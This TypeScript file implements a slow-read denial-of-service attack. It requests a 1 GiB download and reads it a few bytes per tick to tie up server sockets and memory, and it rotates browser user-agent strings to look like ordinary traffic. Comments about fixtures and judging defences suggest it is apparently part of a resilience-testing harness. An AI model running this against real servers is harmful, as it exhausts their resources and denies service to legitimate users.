/**
 * Slow read: request a large download, then read the answer a few bytes per tick so the server's send
 * buffer stays full and its socket (and memory) stay held. Node cannot shrink the kernel receive window
 * (no SO_RCVBUF on net sockets), so the client keeps Node's buffer tiny (1 KiB high-water mark) and the
 * kernel's autotuned buffer fills first; the server sees backpressure once that is full.
 *
 * Caveat: a server that closes gracefully (FIN) is seen by a slow reader only after it read the bytes in
 * front of the FIN; a reset is seen at once. Judge slow-read defences from the server's side as well
 * (its open connections), not from `closedByServer` alone.
 */
import { runSlowConnections, type SlowAttackResult, type SlowConnectionOptions } from './slow-connections.ts';
import { BROWSER_USER_AGENTS } from './traffic-shapes.ts';

/** Options of {@link runSlowRead}. */
export interface SlowReadOptions extends SlowConnectionOptions {
  /** Bytes read per socket per tick. Default 16. */
  readonly bytesPerTick?: number;
  /** Path requested when the target URL has none. Default `/download?bytes=1073741824` (1 GiB, fixture). */
  readonly defaultPath?: string;
}

/** Runs slow read until its bounds stop it. */
export function runSlowRead(options: SlowReadOptions): Promise<SlowAttackResult> {
  const perTick = options.bytesPerTick ?? 16;
  return runSlowConnections('slow_read', options, {
    watchAnswers: false,
    open(ctx) {
      const path = ctx.path === '/' ? (options.defaultPath ?? '/download?bytes=1073741824') : ctx.path;
      ctx.write(`GET ${path} HTTP/1.1\r\nHost: ${ctx.host}\r\nUser-Agent: ${BROWSER_USER_AGENTS[ctx.index % BROWSER_USER_AGENTS.length]}\r\nAccept: */*\r\n\r\n`);
    },
    tick(ctx) {
      const { socket } = ctx;
      const available = socket.readableLength;
      const chunk = available > 0 ? (socket.read(Math.min(perTick, available)) as Buffer | null) : (socket.read(0) as null);
      if (chunk) ctx.noteRead(chunk);
    },
  });
}
